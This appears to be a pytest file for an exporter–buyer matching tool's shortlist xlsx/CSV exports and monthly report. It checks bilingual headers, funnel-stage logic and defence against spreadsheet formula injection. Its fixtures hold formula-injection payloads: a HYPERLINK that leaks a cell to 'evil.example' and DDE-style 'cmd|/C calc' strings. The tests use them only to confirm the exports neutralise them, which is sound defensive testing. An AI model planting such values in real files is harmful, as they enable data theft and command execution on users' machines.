"""Shortlist exports (xlsx, CSV) and the monthly report, on SQLite and PostgreSQL: the rows
and reasons come back when the files are read, headers follow the language, and values
from the database that look like formulas stay text."""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pytest
from sqlalchemy.orm import Session, sessionmaker

from matcher.domain.enums import FunnelStage
from matcher.domain.schemas import BuyerRecord, ExporterRecord, FunnelEventRecord
from matcher.errors import InputValidationError, NotFoundError
from matcher.reporting.exports import (
    HEADERS,
    Lang,
    ShortlistExportRow,
    furthest_stage,
    monthly_report_xlsx,
    shortlist_csv,
    shortlist_rows,
    shortlist_xlsx,
)
from matcher.storage import records, shortlists
from matcher.storage.database import session_scope

S = FunnelStage
EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
EVIL_CITY = "+cmd|' /C calc'!A0"
EVIL_NOTE = "@SUM(1+1)*cmd|' /C calc'!A0"


def _at(y: int, m: int, d: int, hh: int = 12) -> dt.datetime:
    return dt.datetime(y, m, d, hh, tzinfo=dt.UTC)


@pytest.fixture
def store(sessions: sessionmaker[Session]) -> sessionmaker[Session]:
    with session_scope(sessions) as s:
        records.create(
            s, "exporters", ExporterRecord(external_id="E1", name_ko="가나 밸브", name_en="Gana")
        )
        records.create(s, "exporters", ExporterRecord(external_id="E2", name_en="Other"))
        buyers = [
            BuyerRecord(
                external_id="B1",
                name="Hai Phong Trading",
                country="VN",
                city="Hai Phong",
                buyer_type="distributor",
                center="HAN",
            ),
            BuyerRecord(
                external_id="B2", name=EVIL_NAME, country="VN", city=EVIL_CITY, center="HAN"
            ),
            BuyerRecord(external_id="B3", name="-Minus Co", country="VN", center="HAN"),
        ]
        for b in buyers:
            records.create(s, "buyers", b)
        events = [
            ("E1", "B1", S.MARKET_INFO_SENT, _at(2024, 5, 2), "kim", None),
            ("E1", "B1", S.MOU, _at(2024, 5, 10), "kim", 1500.0),
            ("E1", "B1", S.CONSULTATION, _at(2024, 5, 20), "kim", None),
            ("E1", "B1", S.DECLINED, _at(2024, 5, 28), "kim", None),  # after the consultation
            ("E1", "B2", S.DECLINED, _at(2024, 4, 2), "lee", None),
            ("E1", "B2", S.MARKET_INFO_SENT, _at(2024, 5, 31, 23), "lee", None),
            ("E1", "B1", S.MARKET_INFO_SENT, _at(2024, 6, 1, 0), "kim", None),  # June
            ("E2", "B3", S.CONTRACT, _at(2024, 5, 5), "lee", None),  # another firm
        ]
        for exporter, buyer, stage, when, actor, value in events:
            note = EVIL_NOTE if buyer == "B2" else None
            records.create(
                s,
                "events",
                FunnelEventRecord(
                    exporter_id=exporter,
                    buyer_id=buyer,
                    stage=stage,
                    occurred_at=when,
                    actor=actor,
                    center="HAN",
                    value_usd=value,
                    note=note,
                ),
            )
        row = shortlists.create(
            s,
            center="HAN",
            exporter_external_id="E1",
            title="May picks",
            note=None,
            items=[
                shortlists.Item("B1", "call Monday", "kim"),
                shortlists.Item("B2", EVIL_NOTE, "lee"),
                shortlists.Item("B3"),
            ],
            created_by="kim",
            external_id="SL1",
        )
        # Items saved from a ranked shortlist also carry the score and the reasons.
        items = [dict(i) for i in row.items]
        items[0].update(
            score=0.91,
            reasons=[
                {"en": "Imports valves (HS 8481)", "ko": "밸브 수입 (HS 8481)"},
                {"en": "Answers quickly", "ko": "응답이 빠름"},
                "Distributor in Hai Phong",
            ],
        )
        items[1].update(score=-0.25, reasons=["=1+1"])
        row.items = items
    return sessions


def _rows(store: sessionmaker[Session], lang: Lang = "en") -> list[ShortlistExportRow]:
    with session_scope(store) as s:
        return shortlist_rows(s, shortlists.get(s, "SL1"), lang=lang)


def test_shortlist_rows(store: sessionmaker[Session]) -> None:
    rows = _rows(store)
    assert [(r.position, r.buyer_id) for r in rows] == [(1, "B1"), (2, "B2"), (3, "B3")]
    first, second, third = rows
    assert (first.name, first.country, first.city, first.buyer_type, first.center) == (
        "Hai Phong Trading",
        "VN",
        "Hai Phong",
        "distributor",
        "HAN",
    )
    assert first.score == pytest.approx(0.91)
    assert first.reasons == [
        "Imports valves (HS 8481)",
        "Answers quickly",
        "Distributor in Hai Phong",
    ]
    assert (first.note, first.assigned_to) == ("call Monday", "kim")
    # The consultation is the furthest stage; the later decline does not override it, but
    # it is the last event. June's event is included: the pair's whole history counts.
    assert first.last_stage is S.CONSULTATION
    assert first.last_event_at == _at(2024, 6, 1, 0)
    assert second.last_stage is S.MARKET_INFO_SENT
    assert (third.last_stage, third.last_event_at, third.score, third.reasons) == (
        None,
        None,
        None,
        [],
    )
    assert _rows(store, "ko")[0].reasons[:2] == ["밸브 수입 (HS 8481)", "응답이 빠름"]


def test_furthest_stage_rule() -> None:
    assert furthest_stage([S.MARKET_INFO_SENT, S.CONSULTATION, S.DECLINED]) is S.CONSULTATION
    assert furthest_stage([S.DECLINED]) is S.DECLINED
    assert furthest_stage([]) is None


def _sheet_rows(data: bytes, sheet: str | None = None) -> list[list[object]]:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    ws = wb[sheet] if sheet else wb.active
    assert ws is not None
    return [list(r) for r in ws.iter_rows(values_only=True)]


@pytest.mark.parametrize("lang", ["en", "ko"])
def test_shortlist_xlsx_has_the_rows_and_reasons(store: sessionmaker[Session], lang: Lang) -> None:
    rows = _rows(store)
    data = shortlist_xlsx("May picks", rows, lang)
    wb = openpyxl.load_workbook(io.BytesIO(data))
    ws = wb.active
    assert ws is not None
    assert ws.title == "May picks"
    assert ws.freeze_panes == "A2"
    table = [list(r) for r in ws.iter_rows(values_only=True)]
    head = table[0]
    reason = HEADERS["reason"][lang]
    reason_columns = [x for x in head if str(x).startswith(reason.format(n=""))]
    assert reason_columns == [reason.format(n=n) for n in (1, 2, 3)]
    assert head[0] == HEADERS["position"][lang]
    assert head[-2:] == [HEADERS["last_stage"][lang], HEADERS["last_event_at"][lang]]
    assert len(table) == 4
    col = {h: i for i, h in enumerate(head)}
    first = table[1]
    assert first[col[HEADERS["name"][lang]]] == "Hai Phong Trading"
    assert first[col[reason.format(n=1)]] == "Imports valves (HS 8481)"
    assert first[col[reason.format(n=3)]] == "Distributor in Hai Phong"
    assert first[col[HEADERS["score"][lang]]] == pytest.approx(0.91)
    label = S.CONSULTATION.label_ko if lang == "ko" else S.CONSULTATION.label_en
    assert first[col[HEADERS["last_stage"][lang]]] == label
    assert first[col[HEADERS["last_event_at"][lang]]] == dt.datetime(2024, 6, 1, 0)
    assert table[3][col[reason.format(n=1)]] is None  # B3 has no reasons


def test_headers_are_korean_or_english(store: sessionmaker[Session]) -> None:
    rows = _rows(store)
    ko = _sheet_rows(shortlist_xlsx("t", rows, "ko"))[0]
    en = _sheet_rows(shortlist_xlsx("t", rows, "en"))[0]
    assert ko[:3] == ["순번", "바이어 ID", "수입업체명"]
    assert en[:3] == ["No.", "Buyer ID", "Importer"]
    assert "추천 사유 1" in ko and "Reason 1" in en
    with pytest.raises(InputValidationError):
        shortlist_xlsx("t", rows, "vi")  # type: ignore[arg-type]


def test_formula_like_values_stay_text_in_xlsx(store: sessionmaker[Session]) -> None:
    data = shortlist_xlsx("=evil", _rows(store), "en")
    wb = openpyxl.load_workbook(io.BytesIO(data))
    ws = wb.active
    assert ws is not None
    cells = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for value in (EVIL_NAME, EVIL_CITY, EVIL_NOTE, "=1+1", "-Minus Co"):
        assert value in cells, value  # unchanged text ...
        assert cells[value].data_type == "s", value  # ... stored as a string, not a formula
    assert cells[EVIL_NAME].quotePrefix


def test_shortlist_csv(store: sessionmaker[Session]) -> None:
    rows = _rows(store)
    text = shortlist_csv(rows, "en")
    assert text.startswith("\ufeff")
    table = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    xlsx_head = _sheet_rows(shortlist_xlsx("t", rows, "en"))[0]
    assert table[0] == xlsx_head  # the same columns as the xlsx
    assert len(table) == 4
    col = {h: i for i, h in enumerate(table[0])}
    first, second, third = table[1:]
    assert first[col["Importer"]] == "Hai Phong Trading"
    assert first[col["Reason 2"]] == "Answers quickly"
    assert first[col["Score"]] == "0.91"
    assert first[col["Furthest stage"]] == S.CONSULTATION.label_en
    assert first[col["Last event (UTC)"]] == "2024-06-01 00:00:00"
    # Formula-like text from the database gets an apostrophe; our own numbers do not.
    assert second[col["Importer"]] == "'" + EVIL_NAME
    assert second[col["City"]] == "'" + EVIL_CITY
    assert second[col["Note"]] == "'" + EVIL_NOTE
    assert second[col["Reason 1"]] == "'=1+1"
    assert second[col["Score"]] == "-0.25"
    assert third[col["Importer"]] == "'-Minus Co"
    ko = list(csv.reader(io.StringIO(shortlist_csv(rows, "ko").removeprefix("\ufeff"))))
    assert ko[0][:3] == ["순번", "바이어 ID", "수입업체명"]
    assert ko[1][ko[0].index("최종 단계")] == S.CONSULTATION.label_ko


@pytest.mark.parametrize("lang", ["en", "ko"])
def test_monthly_report(store: sessionmaker[Session], lang: Lang) -> None:
    with session_scope(store) as s:
        data = monthly_report_xlsx(s, "E1", "HAN", dt.date(2024, 5, 9), lang)
    wb = openpyxl.load_workbook(io.BytesIO(data))
    h = {k: v[lang] for k, v in HEADERS.items()}
    assert wb.sheetnames == [h["sheet_summary"], h["sheet_activity"]]
    summary = [list(r) for r in wb[h["sheet_summary"]].iter_rows(values_only=True)]
    facts = {r[0]: r[1] for r in summary[:5]}
    assert facts[h["firm"]] == ("가나 밸브" if lang == "ko" else "Gana")
    assert facts[h["firm_id"]] == "E1"
    assert "HAN" in str(facts[h["center"]])
    assert facts[h["month"]] == "2024-05"
    # E1-B1 reached a consultation (70%), E1-B2 market information (10%); E2 is not E1.
    assert facts[h["expected"]] == pytest.approx(0.8)
    start = next(i for i, r in enumerate(summary) if r[0] == h["stage"])
    assert summary[start][:4] == [h["stage"], h["events"], h["probability"], h["pairs"]]
    stages = {r[0]: (r[1], r[2], r[3]) for r in summary[start + 1 : start + 6]}

    def label(stage: FunnelStage) -> str:
        return stage.label_ko if lang == "ko" else stage.label_en

    assert stages[label(S.MARKET_INFO_SENT)] == (2, pytest.approx(0.1), 1)
    assert stages[label(S.MOU)] == (1, pytest.approx(0.3), 0)
    assert stages[label(S.CONSULTATION)] == (1, pytest.approx(0.7), 1)
    assert stages[label(S.CONTRACT)] == (0, pytest.approx(1.0), 0)

    ws = wb[h["sheet_activity"]]
    assert ws.freeze_panes == "A2"
    activity = [list(r) for r in ws.iter_rows(values_only=True)]
    assert activity[0] == [
        h[k] for k in ("date", "importer", "country", "city", "stage", "value_usd", "note", "actor")
    ]
    # Every May event of E1 at HAN (the decline too), oldest first; not April's, not June's.
    assert [(r[0], r[1], r[4]) for r in activity[1:]] == [
        (dt.datetime(2024, 5, 2, 12), "Hai Phong Trading", label(S.MARKET_INFO_SENT)),
        (dt.datetime(2024, 5, 10, 12), "Hai Phong Trading", label(S.MOU)),
        (dt.datetime(2024, 5, 20, 12), "Hai Phong Trading", label(S.CONSULTATION)),
        (dt.datetime(2024, 5, 28, 12), "Hai Phong Trading", label(S.DECLINED)),
        (dt.datetime(2024, 5, 31, 23), EVIL_NAME, label(S.MARKET_INFO_SENT)),
    ]
    assert activity[2][5] == 1500.0
    assert activity[2][7] == "kim"
    evil = [
        c for row in ws.iter_rows() for c in row if c.value in (EVIL_NAME, EVIL_CITY, EVIL_NOTE)
    ]
    assert len(evil) == 3
    assert all(c.data_type == "s" for c in evil)


def test_monthly_report_for_an_unknown_firm(store: sessionmaker[Session]) -> None:
    with session_scope(store) as s, pytest.raises(NotFoundError):
        monthly_report_xlsx(s, "nope", "HAN", dt.date(2024, 5, 1), "en")
